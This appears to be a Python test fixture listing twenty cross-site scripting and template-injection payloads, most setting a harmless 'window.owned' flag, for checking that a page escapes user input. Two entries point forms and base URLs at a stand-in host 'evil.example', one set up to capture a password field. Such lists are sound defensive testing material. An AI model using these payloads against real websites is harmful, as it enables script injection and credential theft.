"""Twenty ways to try to make a page run what a person wrote."""

PAYLOADS = (
    "<script>window.owned = 1</script>",
    "<img src=x onerror='window.owned=1'>",
    "<svg/onload=window.owned=1>",
    '"><script>window.owned=1</script>',
    "' autofocus onfocus=window.owned=1 x='",
    "</textarea><script>window.owned=1</script>",
    "</select></form><img src=x onerror=window.owned=1>",
    "</option><option selected onfocus=window.owned=1>",
    "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
    "<a href='javascript:window.owned=1'>here</a>",
    "{{ 7 * 7 }}{% for x in [1] %}x{% endfor %}",
    "${window.owned=1}",
    "<div data-hx-on:load='window.owned=1' data-hx-get='/x' data-hx-trigger='load'></div>",
    "<form id=part action=//evil.example><input name=pass></form>",
    "<base href='http://evil.example/'>",
    "<style>*{display:none}</style>",
    "<math><mtext></mtext><mglyph><svg><mtext><style><img src onerror=window.owned=1>",
    "&lt;script&gt;window.owned=1&lt;/script&gt;",
    "<!--><script>window.owned=1</script-->",
    "＜script＞window.owned=1＜/script＞ 日本語",
)
